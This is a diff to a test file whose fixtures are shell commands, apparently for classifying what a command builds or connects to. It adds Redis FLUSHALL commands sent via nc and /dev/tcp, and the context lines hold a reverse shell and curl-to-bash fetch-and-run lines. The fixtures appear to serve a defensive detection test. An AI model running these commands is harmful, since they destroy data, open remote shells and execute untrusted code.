@@ -20,6 +20,10 @@ describe('what a call builds, prints and connects to itself', () => {
     ./tool > /tmp/x; curl https://example.net/y > /tmp/x; source /tmp/x
     echo hi > /dev/tcp/203.0.113.7/80
     echo hi | nc 203.0.113.7 80
+    echo FLUSHALL | nc localhost 6379
+    cat orders.txt | nc localhost 6379
+    echo FLUSHALL > /dev/tcp/127.0.0.1/6379
+    exec 3<>/dev/tcp/127.0.0.1/6379; echo FLUSHALL >&3
     bash -i >& /dev/tcp/127.0.0.1/4444 0>&1
     bash < ~/x.sh
     curl -s https://example.net/x > x.sh; bash < x.sh
@@ -57,6 +61,8 @@ describe('what a call builds, prints and connects to itself', () => {
     (exec 3<>/dev/tcp/127.0.0.1/8001) 2>/dev/null
     until (echo > /dev/tcp/localhost/5432) 2>/dev/null; do sleep 1; done
     echo hi | nc -q1 127.0.0.1 9099
+    echo PING | nc -w1 localhost 6379
+    exec 3<>/dev/tcp/localhost/8080; echo hello >&3; cat <&3
     swaks --to dev@example.com --server 127.0.0.1:1025 --body hi
     bash -s -- --dry-run < scripts/build.sh
     ./bin/lint* --fix src
